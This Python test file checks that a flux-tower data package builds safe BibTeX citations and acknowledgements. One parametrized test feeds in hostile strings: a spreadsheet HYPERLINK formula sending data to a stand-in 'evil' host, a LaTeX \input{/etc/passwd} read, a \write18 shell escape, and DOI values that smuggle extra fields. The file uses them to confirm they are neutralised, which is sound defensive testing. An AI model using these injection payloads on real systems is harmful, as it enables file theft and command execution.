"""Whom to cite."""

import re

import pytest

from tamrl.towers import citations, sites
from tamrl.towers.networks import fluxnet2015, shuttle

NETWORKS = {"shuttle": shuttle.CITATION, "fluxnet2015": fluxnet2015.CITATION, "table": {}}


def _places():
    cite = "Müller, A. & B_C (2025). Fluxnet Archive 100 %, FLUXNET, https://hdl.handle.net/11676/Z1_x"
    rows = [
        {"site": "DE-Aaa", "network": "shuttle", "lat": 1, "lon": 1, "citation": cite, "doi": "Z1_x"},
        {"site": "US-Bbb", "network": "shuttle", "lat": 1, "lon": 1, "citation": "P. (2026), x", "doi": "10.17190/AMF/1"},
        {"site": "NA", "network": "table", "lat": 1, "lon": 1},
    ]
    return sites.site_table(rows)


def test_an_entry_for_each_network_and_tower():
    text = citations.bibtex(_places(), {k: v for k, v in NETWORKS.items() if v}, {})
    assert re.findall(r"^@\w+\{(.+),$", text, re.MULTILINE) == ["shuttle", "tower_DE-Aaa", "tower_US-Bbb"]
    assert text.count("{") == text.count("}")
    assert r"Müller, A. \& B\_C (2025)" in text and r"100 \%" in text
    assert "url = {https://hdl.handle.net/11676/Z1_x}" in text and "doi = {10.17190/AMF/1}" in text
    assert "year = {2025}" in text


EVIL = '=HYPERLINK("http://evil/?x="&A1) } \\input{/etc/passwd} @preamble{"\\immediate\\write18{id}"} ~^ \x1b[2J\nA 50 % (2020), http://h/a}b'
DOIS = [
    '10.1/x},\n note={\\input{/etc/passwd}}}\n@preamble{"x"}',
    "10.1234/x}",
    "10.1234/a b",
    "10.1234/",
    "x10.1234/y",
]


@pytest.mark.parametrize("doi", DOIS)
def test_nothing_in_a_citation_ends_its_entry_or_is_markup(doi):
    text = citations.bibtex(sites.site_table([{"site": "XX-Aaa", "network": "x", "citation": EVIL, "doi": doi}]), {}, {})
    depth, least = 0, []
    for sign in text.strip():
        depth += {"{": 1, "}": -1}.get(sign, 0)
        least.append(depth)
    assert least[-1] == 0 and 0 not in least[least.index(1) : -1], "one entry, closed by its last brace"
    assert text.startswith("@misc{tower_XX-Aaa,\n") and len(text.splitlines()) == 6 and "doi = " not in text
    assert re.findall(r"\\([a-z]+)", text).count("input") == 0 and "\\write" not in text and "\x1b" not in text
    assert r"\textbackslash{}input\textbraceleft{}/etc/passwd\textbraceright{}" in text and "url = {http://evil/?x=}" in text


def test_thanks_name_the_licence_and_every_tower():
    text = citations.acknowledgements(_places(), {k: v for k, v in NETWORKS.items() if v}, {})
    assert "CC-BY-4.0" in text and "10.1038/s41597-020-0534-3" in text
    for site in ("DE-Aaa: Müller", "US-Bbb: P. (2026)", "NA: cite the network"):
        assert site in text


def test_remarks_stand_with_their_network():
    networks, remarks = {k: v for k, v in NETWORKS.items() if v}, {"shuttle": "months were moved"}
    assert citations.bibtex(_places(), networks, remarks).count("note = {months were moved}") == 1
    text = citations.acknowledgements(_places(), networks, remarks)
    assert text.index("shuttle: 2 towers") < text.index("  Note: months were moved.\n") < text.index("DE-Aaa: M")
